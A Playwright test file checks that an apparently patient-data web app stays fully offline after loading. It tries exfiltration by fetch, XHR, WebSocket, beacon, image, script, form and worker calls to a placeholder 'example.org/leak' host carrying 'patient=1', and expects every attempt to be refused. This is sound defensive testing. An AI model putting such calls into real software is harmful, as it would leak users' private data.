import { JourneyPage } from './journey-page.ts';
import { expect, test } from './served-page.ts';

test('after loading, the whole journey asks nothing of any network', async ({ page, served, context }) => {
  const centre = new JourneyPage(page);
  await centre.open(served);
  const loaded = served.requests.length;
  const seen: string[] = [];
  context.on('request', (request) => {
    const { protocol } = new URL(request.url());
    if (protocol !== 'blob:' && protocol !== 'data:') seen.push(`${request.method()} ${request.url()}`);
  });
  const unserved: string[] = [];
  context.on('response', (response) => {
    const { protocol } = new URL(response.url());
    if ((protocol === 'http:' || protocol === 'https:') && !response.fromServiceWorker())
      unserved.push(response.url());
  });
  await context.setOffline(true);

  await centre.trySimulatedCentres();
  await centre.chooseSite('assessment_center', 'Oxford');
  await centre.nameCentre('Oxford');
  await centre.confirmCodebook();
  await centre.plan('0.2');
  await centre.train();
  await centre.makeBundle(5);
  await centre.goTo('Analyse');
  await centre.analyse();

  expect(served.requests.slice(loaded)).toEqual([]);
  expect(unserved).toEqual([]);
  // The page's own files, out of the browser's copy: read only, nothing carried along.
  expect(seen.filter((request) => !request.startsWith(`GET ${served.address}`))).toEqual([]);
  expect(seen.filter((request) => request.includes('?'))).toEqual([]);
});

test('code inside the page, or inside a worker of it, cannot send anything', async ({
  page,
  served,
  context,
}) => {
  await new JourneyPage(page).open(served);
  const loaded = served.requests.length;
  const address = served.address;
  const attempts = await page.evaluate(async (to) => {
    const refused = (attempt: () => unknown) =>
      Promise.resolve()
        .then(attempt)
        .then(
          (value) => (value === false ? 'refused' : 'sent'),
          () => 'refused',
        );
    const socket = () =>
      new Promise((resolve, reject) => {
        const ws = new WebSocket(to.replace('http', 'ws'));
        ws.onopen = resolve;
        ws.onerror = reject;
      });
    const image = (source: string) => () =>
      new Promise((resolve, reject) => {
        const picture = new Image();
        picture.onload = resolve;
        picture.onerror = reject;
        picture.src = source;
      });
    const script = (source: string) => () =>
      new Promise((resolve, reject) => {
        const element = document.createElement('script');
        element.onload = resolve;
        element.onerror = reject;
        element.src = source;
        document.head.append(element);
      });
    const inWorker = () =>
      new Promise((resolve, reject) => {
        const code = `fetch(${JSON.stringify(`${to}leak?worker`)}).then(() => postMessage('sent'), () => postMessage('refused'))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        worker.onmessage = ({ data }) => (data === 'sent' ? resolve(true) : reject(new Error(data)));
        worker.onerror = () => reject(new Error('refused'));
      });
    return {
      fetch: await refused(() => fetch(`${to}leak?fetch`)),
      fetchElsewhere: await refused(() => fetch('https://example.org/leak', { mode: 'no-cors' })),
      request: await refused(() => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}leak?xhr`, false);
        request.send('patient=1');
      }),
      webSocket: await refused(socket),
      eventSource: await refused(
        () =>
          new Promise((resolve, reject) => {
            const source = new EventSource(`${to}leak?events`);
            source.onopen = resolve;
            source.onerror = reject;
          }),
      ),
      image: await refused(image('https://example.org/leak.png?patient=1')),
      ownImage: await refused(image(`${to}icon.svg?leak=patient1`)),
      script: await refused(script('https://example.org/leak.js')),
      worker: await refused(inWorker),
    };
  }, address);
  expect(attempts).toEqual(Object.fromEntries(Object.keys(attempts).map((way) => [way, 'refused'])));

  // A beacon answers true before the policy is applied, and a form navigates: only the server knows.
  await page.evaluate((to) => {
    navigator.sendBeacon(`${to}leak?beacon`, 'patient=1');
    const form = document.createElement('form');
    form.action = `${to}leak`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  }, address);
  await page.waitForTimeout(500);
  expect(served.requests.slice(loaded).filter((request) => request.includes('leak'))).toEqual([]);
  expect(context.pages()).toHaveLength(1);
});
